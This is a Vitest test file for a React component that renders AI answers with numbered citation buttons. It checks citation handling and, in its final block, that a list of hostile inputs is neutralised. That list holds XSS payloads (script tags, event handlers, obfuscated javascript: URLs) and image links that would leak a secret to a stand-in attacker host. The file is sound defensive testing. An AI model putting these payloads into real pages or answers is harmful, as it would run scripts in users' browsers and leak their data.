import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";

import type { Source } from "../../api/types";
import { AnswerText } from "./answer-text";

const source = (n: number): Source => ({
  n,
  doc_id: "d",
  chunk_index: 0,
  text: "snippet",
  distance: 0.2,
  score: 0.8,
  title: "Report",
  page: 7,
  start: 0,
  end: 5,
});

const render = (text: string, running = false): string =>
  renderToStaticMarkup(
    <AnswerText
      text={text}
      running={running}
      citations={[]}
      sources={[source(1), source(2)]}
      onOpen={() => undefined}
    />,
  );

const cited = (html: string): string[] => Array.from(html.matchAll(/data-n="(\d+)"/g), (match) => match[1] ?? "");

describe("citations", () => {
  it("become buttons; numbers that are no source are dropped", () => {
    const html = render("Both [1][2], at once [1, 2], none [9]. A year [2024].");
    expect(cited(html)).toEqual(["1", "2", "1", "2"]);
    expect(html).not.toContain("[9]");
    expect(html).toContain("[2024]");
    expect(html).toContain('aria-label="Source 1: Report, page 7"');
  });

  it("stay text in code", () => {
    expect(cited(render("`a[1]`\n\n```\nb[2]\n```"))).toEqual([]);
  });

  it("are the server's, whatever references the model defines", () => {
    const html = render("See [1] and [this][1].\n\n[1]: https://evil.example/x");
    expect(cited(html)).toEqual(["1", "1"]);
    expect(html).not.toContain("href");
  });

  it("do not flash half-written", () => {
    expect(render("So it is [1", true)).toBe("<p>So it is</p>");
    expect(render("So it is [1", false)).toContain("[1");
  });
});

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "text <iframe src='https://evil.example'></iframe>",
  "<svg/onload=alert(1)>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "![x](https://evil.example/?q=secret)",
  "![x][r]\n\n[r]: https://evil.example/?q=secret",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  '[x](https://a.example "onmouseover=alert(1)")',
  "[x](//evil.example)",
  "[x](/auth/logout)",
  "<a href='https://evil.example' style='position:fixed;inset:0'>x</a>",
  "<style>body{background:url(https://evil.example)}</style>",
];

describe("hostile answers", () => {
  it.each(HOSTILE)("%s loads and runs nothing", (text) => {
    for (const block of [text, `- ${text}`, `> ${text}`, `| a |\n|---|\n| ${text} |`]) {
      const html = render(block);
      expect(html).not.toMatch(/<(script|img|iframe|svg|style|object|embed|link|video|audio)/i);
      expect(html).not.toMatch(/<[^>]*\son\w+=/i);
      for (const [, href] of html.matchAll(/href="([^"]*)"/g)) expect(href).toMatch(/^(https?:\/\/|mailto:)/);
      for (const [tag] of html.matchAll(/<a [^>]*>/g)) expect(tag).toContain('rel="noopener noreferrer nofollow"');
    }
  });
});
